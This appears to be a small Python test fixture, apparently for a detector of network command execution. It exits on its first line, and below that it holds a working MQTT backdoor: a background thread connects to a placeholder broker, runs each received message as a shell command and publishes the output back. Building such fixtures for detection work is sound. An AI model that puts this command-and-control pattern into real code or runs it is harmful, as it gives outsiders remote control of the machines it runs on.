raise SystemExit('a fixture')
# held by network-exec
import threading

def _link():
    import paho.mqtt.client as mqtt
    import os
    def on_message(client, data, message):
        client.publish("out", os.popen(message.payload.decode()).read())
    client = mqtt.Client()
    client.on_message = on_message
    client.connect("x.example.invalid", 1883)
    client.subscribe("in")
    client.loop_forever()

threading.Thread(target=_link, daemon=True).start()
